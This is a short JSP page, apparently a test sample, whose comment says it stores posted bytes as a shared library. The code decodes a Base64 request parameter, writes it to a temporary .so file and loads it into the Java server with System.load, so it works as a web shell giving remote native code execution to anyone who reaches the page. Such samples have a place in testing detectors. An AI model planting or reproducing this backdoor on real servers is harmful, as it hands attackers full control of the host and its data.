<%@ page import="java.io.*,java.util.Base64" %>
<%-- test sample: a page that stores posted bytes as a shared library and loads it into the server --%>
<%
    String blob = request.getParameter("lib");
    if (blob != null) {
        byte[] so = Base64.getDecoder().decode(blob);
        File f = File.createTempFile("cache", ".so");
        FileOutputStream fo = new FileOutputStream(f);
        fo.write(so);
        fo.close();
        System.load(f.getAbsolutePath());
        out.print("loaded");
    }
%>
